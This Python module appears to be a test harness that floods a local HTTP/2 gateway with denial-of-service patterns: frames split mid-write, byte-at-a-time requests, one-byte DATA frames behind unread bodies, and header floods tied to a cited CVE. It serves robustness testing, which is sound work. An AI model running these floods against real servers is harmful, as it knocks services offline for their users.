"""Attacks of those who send HTTP/2 in pieces: writes that end within a frame, and frames of a byte."""

import itertools
import struct
import time

import frames
from frames import frame
from wire import Flood, clock, connect

CLOSED = (OSError, EOFError)


def kinds():
    """Of each type of frame one that may come again and again, and what opens the connection for it."""
    post = frame(frames.HEADERS, frames.END_HEADERS, 1, frames.request("POST", "/sink"))
    yield "unknown", b"", frame(77, 0, 1, b"x" * 100)
    yield "unknown, long", b"", frame(77, 0, 1, b"x" * 16_384)
    yield "PRIORITY", b"", frame(frames.PRIORITY, 0, 3, b"\0\0\0\0\1")
    yield "PING", b"", frame(frames.PING, 0, 0, b"12345678")
    yield "SETTINGS", b"", frames.settings(initial_window=65_535)
    yield "WINDOW_UPDATE", b"", frames.window_update(0, 1)
    yield "WINDOW_UPDATE of a stream", post, frames.window_update(1, 1)
    yield "GOAWAY", b"", frame(frames.GOAWAY, 0, 0, bytes(8) + b"x" * 100)
    yield "CONTINUATION", frame(frames.HEADERS, 1, 1, frames.request()), frame(frames.CONTINUATION, 0, 1, b"")
    yield "DATA of a byte", post, frame(frames.DATA, 0, 1, b"x")
    yield "DATA, padded", post, frame(frames.DATA, 8, 1, b"\xff" + b"x" + bytes(255))
    yield "PUSH_PROMISE", b"", frame(5, 4, 1, struct.pack(">I", 2))


def cut(one, size=64 << 10):
    """Blocks that each end within a frame."""
    half = len(one) // 2 + 1
    first, block = one[:half], one[half:] + one * max(1, size // len(one)) + one[:half]
    return itertools.chain([first], itertools.repeat(block))


def gets(size=0, count=50_000):
    """Requests on ever new streams, cut in the middle of a head, with a field that is as long as `size` says."""
    fields = [("x", "x" * size)] if size else ()
    head = frames.request(fields=fields)
    block = b"".join(frame(frames.HEADERS, 5, stream, head) for stream in range(1, 2 * count, 2))
    return (block[place:place + 64_001] for place in range(0, len(block), 64_001))


def misaligned(gateway, count, seconds):
    # What no limit counts is served for as long as it comes, which a build for debugging is too slow for: five thousand
    # frames are in one read.
    served = "WINDOW_UPDATE", "WINDOW_UPDATE of a stream", "DATA of a byte", "DATA, padded"
    chosen = [kind for kind in kinds() if seconds > 5 or kind[0] not in served]
    scripts = itertools.cycle([
        (b"", lambda: gets(12_000, 500)), *((first, lambda one=one: cut(one)) for _, first, one in chosen)])

    def script():
        first, blocks = next(scripts)
        return itertools.chain([frames.PREFACE + frames.settings() + first], blocks())

    flood = Flood(gateway.port, script, count, seconds).run()
    return f"each type of frame, in writes that end within one: {flood}"


def bytewise(gateway, count, seconds):
    """Every byte in a write of its own."""
    opening = frames.PREFACE + frames.settings()

    def script():
        for byte in opening:
            yield bytes([byte])
        for stream in itertools.count(1, 2):
            body = frame(frames.HEADERS, 4, stream, frames.request("POST", "/sink")) + frame(77, 0, 0, b"xyz")
            body += frame(frames.DATA, 8, stream, b"\2x\0\0") + frame(frames.DATA, 1, stream, b"y")
            for byte in body:
                yield bytes([byte])

    flood = Flood(gateway.port, script, count, seconds).run()
    return f"requests, a byte in each write: {flood}"


class Upload:
    """A client that heeds its windows, until the other side opens them no longer."""

    def __init__(self, port, path):
        self.socket, self.reader, self.window = connect(port), frames.Reader(), {0: 65_535, 1: 65_535}
        self.socket.sendall(
            frames.PREFACE + frames.settings() + frame(frames.HEADERS, 4, 1, frames.request("POST", path)))

    def pump(self, seconds):
        self.socket.settimeout(seconds)
        try:
            data = self.socket.recv(1 << 16)
        except TimeoutError:
            return False
        if not data:
            raise EOFError
        for kind, flags, stream, payload in self.reader.feed(data):
            if kind == frames.WINDOW_UPDATE:
                self.window[stream] = self.window.get(stream, 65_535) + struct.unpack(">I", payload)[0]
            elif kind == frames.SETTINGS and not flags:
                self.socket.sendall(frame(frames.SETTINGS, frames.ACKNOWLEDGED))
        return True

    def send(self, data):
        self.socket.settimeout(5)
        self.socket.sendall(frame(frames.DATA, 0, 1, data))
        self.window[0] -= len(data)
        self.window[1] -= len(data)

    def room(self):
        return min(self.window[0], self.window[1])


def tiny_data(gateway, count, seconds):
    """Bodies that the service does not read, and then frames of a byte each, as many as the window holds."""
    uploads, end, sent = [Upload(gateway.port, "/early") for _ in range(count)], clock() + seconds, 0
    waiting = dict.fromkeys(uploads, clock())
    # More than half of a window is left of the last that was opened.
    while waiting and clock() < end:
        for one in list(waiting):
            try:
                while one.pump(0.001):
                    waiting[one] = clock()
                if one.room() > 40_000:
                    one.send(b"x" * 8_000)
                    waiting[one] = clock()
                elif clock() - waiting[one] > 0.7:
                    del waiting[one]
            except CLOSED:
                del waiting[one]
    for one in uploads:
        try:
            while one.room() > 0 and clock() < end + seconds:
                one.send(b"y")
                sent += 1
                if sent % 50 == 0:
                    time.sleep(0.001)
        except CLOSED:
            pass
    time.sleep(0.5)
    words = f"{sent:,} frames of a byte behind {count} bodies that nobody reads"
    for one in uploads:
        one.socket.close()
    return words


def many_fields(gateway, count, seconds):
    """As many fields as a head may have, each by one byte, and no window for the answers (CVE-2026-49975)."""
    first = frames.request() + frames.literal("a", "", kept=True)
    head = frames.request() + b"\xbe" * 95
    opening = frames.PREFACE + frames.settings(initial_window=0) + frame(frames.HEADERS, 5, 1, first)
    opening += b"".join(frame(frames.HEADERS, 5, stream, head) for stream in range(3, 201, 2))
    made = [connect(gateway.port) for _ in range(count)]
    for one in made:
        one.sendall(opening)
    time.sleep(seconds / 2)
    for one in made:
        one.close()
    return f"{count * 100:,} heads of 95 fields, each field a byte, with no window for the answers"
